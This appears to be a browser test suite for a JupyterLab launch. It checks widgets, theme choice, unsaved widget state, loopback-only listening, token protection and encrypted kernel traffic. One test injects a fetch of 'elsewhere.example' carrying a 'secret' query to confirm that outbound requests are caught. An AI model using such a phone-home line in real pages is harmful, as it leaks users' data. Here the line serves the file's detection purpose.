"""JupyterLab, as lab.py starts it, shows live widgets, leaks nothing and keeps no widget state."""

import json
import socket
import urllib.error
import urllib.request
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from .conftest import THEMES

pytestmark = pytest.mark.browser

CELLS = (
    "print('the kernel answers')",
    "import ipywidgets\nnumber = ipywidgets.IntText(value=41, description='number')\nnumber",
    """import anywidget, traitlets
class Greeting(anywidget.AnyWidget):
    _esm = '''
    export default { render({ model, el }) {
      const show = () => { el.textContent = model.get("text"); };
      el.className = "greeting"; model.on("change:text", show); show();
    } };
    '''
    text = traitlets.Unicode("hello from Python").tag(sync=True)
greeting = Greeting()
number.observe(lambda change: setattr(greeting, "text", f"counted to {change.new}"), "value")
greeting""",
)


def test_a_widget_talks_to_python_and_python_to_the_page(workbook):
    workbook.write("talking.ipynb", *CELLS)
    workbook.open("talking.ipynb")
    workbook.run_all()

    expect(workbook.output(0)).to_contain_text("the kernel answers")
    expect(workbook.page.locator(".greeting")).to_have_text("hello from Python")
    number = workbook.output(1).get_by_role("spinbutton")
    number.fill("42")
    number.press("Tab")
    expect(workbook.page.locator(".greeting")).to_have_text("counted to 42")
    workbook.screenshot("widgets")


@pytest.mark.parametrize("theme", THEMES)
def test_the_theme_is_the_one_that_was_chosen_and_nothing_pops_up(workbook):
    workbook.write("quiet.ipynb", "1 + 1")
    workbook.open("quiet.ipynb")
    body = workbook.page.locator("body")
    expect(body).to_have_attribute("data-jp-theme-light", str(workbook.theme == "light").lower())
    workbook.page.wait_for_timeout(2000)  # what pops up does so after a moment
    expect(workbook.page.locator(".jp-Dialog, .jp-toast-message, .Toastify__toast")).to_have_count(
        0
    )


def test_a_saved_notebook_holds_no_widget_state(workbook):
    workbook.write("saved.ipynb", *CELLS)
    workbook.open("saved.ipynb")
    workbook.run_all()
    saved = workbook.save()
    assert saved["cells"][0]["outputs"], "the outputs themselves are saved"
    assert "widgets" not in saved["metadata"]


def test_jupyterlab_listens_on_loopback_and_opens_to_nobody_without_its_token(jupyterlab):
    port = urlsplit(jupyterlab.url).port
    with socket.create_connection(("127.0.0.1", port), 5):
        pass
    with pytest.raises(OSError, match="refused"):  # an address it would hear on if it heard on all
        socket.create_connection(("127.0.0.2", port), 5)
    for path in ("/api/contents", "/api/sessions", "/files/notebooks/data/region.csv", "/lab"):
        assert without_token(jupyterlab.url + path) in ("/login", 403), path


def without_token(url: str) -> str | int:
    """Where one ends who asks for this and does not know the token, or the answer's code."""
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            return urlsplit(answer.url).path
    except urllib.error.HTTPError as error:
        return error.code


def test_what_passes_between_jupyterlab_and_the_kernel_is_encrypted(workbook):
    workbook.write("secret.ipynb", "1 + 1")
    workbook.open("secret.ipynb")
    (session,) = workbook.server.ask("GET", "/api/sessions")
    connection = workbook.server.state / "runtime" / f"kernel-{session['kernel']['id']}.json"
    facts = json.loads(connection.read_text("utf-8"))
    assert len(facts["curve_publickey"]) == len(facts["curve_secretkey"]) == 40


def test_a_script_that_fails_and_one_that_phones_home_are_noticed(workbook):
    workbook.write("rude.ipynb", "1 + 1")
    workbook.open("rude.ipynb")
    workbook.page.evaluate("console.error('something of ours is broken')")
    workbook.page.evaluate("fetch('https://elsewhere.example/?secret').catch(() => 0)")
    workbook.page.evaluate("setTimeout(() => { throw new Error('thrown late') })")
    workbook.page.wait_for_timeout(500)
    assert any("something of ours" in error for error in workbook.errors)
    assert any("thrown late" in error for error in workbook.errors)
    assert workbook.asked_elsewhere == ["https://elsewhere.example/?secret"]
    workbook.errors.clear()
    workbook.requests.clear()
